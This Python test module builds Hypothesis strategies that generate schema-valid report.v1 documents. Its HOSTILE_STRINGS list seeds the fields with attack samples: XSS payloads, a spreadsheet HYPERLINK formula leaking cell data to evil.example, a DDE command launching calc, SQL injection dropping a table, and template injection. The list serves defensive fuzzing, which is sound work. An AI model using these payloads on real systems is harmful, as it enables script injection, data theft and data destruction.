"""Hypothesis strategies for report.v1, generated from the schema file itself.

The builder walks the JSON Schema keywords report.v1 uses (type, const, enum, $ref, properties,
required, additionalProperties, propertyNames, pattern, format, lengths, bounds, items) and turns each
``allOf: [{if: {properties: {P: const|enum}}, then: ...}]`` into one branch per value of P with the
``then`` merged in, so every draw is valid without filtering. Strings mix arbitrary text (no U+0000:
the schema's text rule) with hostile samples: markup, script URLs, spreadsheet formulas.
"""

from __future__ import annotations

import copy
from typing import Any

from hypothesis import strategies as st

from sdk_tools.lab.schema import report_schema, schema_errors

# What an attacker would put in a device name or an error message.
HOSTILE_STRINGS = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '"><svg onload=window.__pwned=1>',
    "javascript:window.__pwned=1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tleading tab",
    "\rleading CR",
    'line\nbreak, "quoted", comma',
    "' OR 1=1; DROP TABLE reports; --",
    "\u202eRTL override",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🧪 emoji",
    "{{7*7}} ${7*7}",
    "%00%0d%0a",
)
MAX_ITEMS = 6
TEXT_PATTERN = report_schema()["$defs"]["text"]["pattern"]
MAX_TEXT = 40

_characters = st.characters(codec="utf-8", exclude_characters="\x00")


def _text(min_size: int, max_size: int) -> st.SearchStrategy[str]:
    free = st.text(_characters, min_size=min_size, max_size=min(max_size, max(min_size, MAX_TEXT)))
    hostile = st.sampled_from([s for s in HOSTILE_STRINGS if min_size <= len(s) <= max_size])
    return st.one_of(free, hostile)


def _json_values() -> st.SearchStrategy[Any]:
    """Any JSON value (finite numbers, no NUL), for free-form objects such as bundle.plan."""
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**70), 2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        _text(0, MAX_TEXT),
    )
    return st.recursive(
        scalars,
        lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(_text(0, 20), inner, max_size=4)),
        max_leaves=12,
    )


class _Builder:
    def __init__(self, root: dict[str, Any]) -> None:
        self.root = root

    def resolve(self, schema: dict[str, Any]) -> dict[str, Any]:
        while "$ref" in schema:
            target: Any = self.root
            for part in schema["$ref"].removeprefix("#/").split("/"):
                target = target[part]
            schema = {**target, **{k: v for k, v in schema.items() if k != "$ref"}}
        return schema

    def build(self, schema: dict[str, Any]) -> st.SearchStrategy[Any]:
        if schema.get("$ref") == "#/$defs/json":
            # Free-form JSON (bundle.plan's values): recursion with a bounded size, not the anyOf itself.
            return _json_values()
        schema = self.resolve(schema)
        if "const" in schema:
            return st.just(schema["const"])
        if "enum" in schema:
            return st.sampled_from(schema["enum"])
        kinds = schema.get("type")
        if isinstance(kinds, list):
            return st.one_of([self.build({**schema, "type": kind}) for kind in kinds])
        if kinds == "object" or "properties" in schema:
            return self._object(schema)
        if kinds == "null":
            return st.none()
        if kinds == "integer":
            low, high = schema.get("minimum", -(2**63)), schema.get("maximum", 2**63)
            return st.integers(low, high)
        if kinds == "number":
            return st.floats(schema.get("minimum"), schema.get("maximum"), allow_nan=False, allow_infinity=False)
        if kinds == "array":
            return st.lists(self.build(schema["items"]), max_size=min(schema.get("maxItems", MAX_ITEMS), MAX_ITEMS))
        if kinds == "string":
            return self._string(schema)
        raise NotImplementedError(f"report.v1 strategy: unsupported schema {schema}")

    def _string(self, schema: dict[str, Any]) -> st.SearchStrategy[str]:
        if schema.get("pattern") == TEXT_PATTERN:
            return _text(schema.get("minLength", 0), schema.get("maxLength", 10**6))
        if "pattern" in schema:
            drawn = st.from_regex(schema["pattern"], fullmatch=True)
            if schema.get("format") == "date-time":
                # The pattern admits February 30; the format does not.
                return drawn.filter(lambda s: not schema_errors_for_format(s))
            return drawn
        raise NotImplementedError(f"report.v1 strategy: string without a pattern {schema}")

    def _object(self, schema: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
        branches = self._branches(schema)
        if len(branches) > 1:
            return st.one_of([self._object(branch) for branch in branches])
        properties = schema.get("properties", {})
        if not properties:
            names = self._string(self.resolve(schema["propertyNames"]))
            return st.dictionaries(names, self.build(schema["additionalProperties"]), max_size=MAX_ITEMS)
        required = set(schema.get("required", ()))
        fixed = {name: self.build(body) for name, body in properties.items() if name in required}
        optional = {name: self.build(body) for name, body in properties.items() if name not in required}
        return st.fixed_dictionaries(fixed, optional=optional)

    def _branches(self, schema: dict[str, Any]) -> list[dict[str, Any]]:
        """One schema per value of the property an ``if`` tests, with its ``then`` merged in."""
        conditionals = [part for part in schema.get("allOf", ()) if "if" in part]
        if not conditionals:
            return [schema]
        ((name, _),) = conditionals[0]["if"]["properties"].items()
        base = {k: v for k, v in schema.items() if k != "allOf"}
        values = self.resolve(schema["properties"][name])["enum"]
        branches = []
        for value in values:
            branch = copy.deepcopy(base)
            branch["properties"][name] = {"const": value}
            for part in conditionals:
                ((_, condition),) = part["if"]["properties"].items()
                if value in condition.get("enum", [condition.get("const")]):
                    branch = self._merged(branch, part["then"])
            branches.append(branch)
        return branches

    def _merged(self, schema: dict[str, Any], extra: dict[str, Any]) -> dict[str, Any]:
        schema = self.resolve(schema)
        out = {**schema, "required": sorted({*schema.get("required", ()), *extra.get("required", ())})}
        properties = dict(out.get("properties", {}))
        for name, more in extra.get("properties", {}).items():
            properties[name] = self._merged(properties[name], more)
        out["properties"] = properties
        if extra.get("type"):
            # error: {"type": "object"} under a failed status removes the schema's null.
            out["type"] = extra["type"]
        return out


def schema_errors_for_format(started_at: str) -> list[Any]:
    probe = {"run": {"started_at": started_at}}
    return [e for e in schema_errors(probe) if e.path == "$.run.started_at"]


def reports(device_id: str | None = None) -> st.SearchStrategy[dict[str, Any]]:
    """Valid report.v1 documents; with ``device_id``, posted as that registered device."""
    drawn = _Builder(report_schema()).build(report_schema())
    if device_id is None:
        return drawn

    def owned(report: dict[str, Any]) -> dict[str, Any]:
        return {**report, "device": {**report["device"], "device_id": device_id}}

    return drawn.map(owned)


def is_formula(cell: str) -> bool:
    """True for a CSV cell a spreadsheet would evaluate."""
    return bool(cell) and cell[0] in "=+-@\t\r"
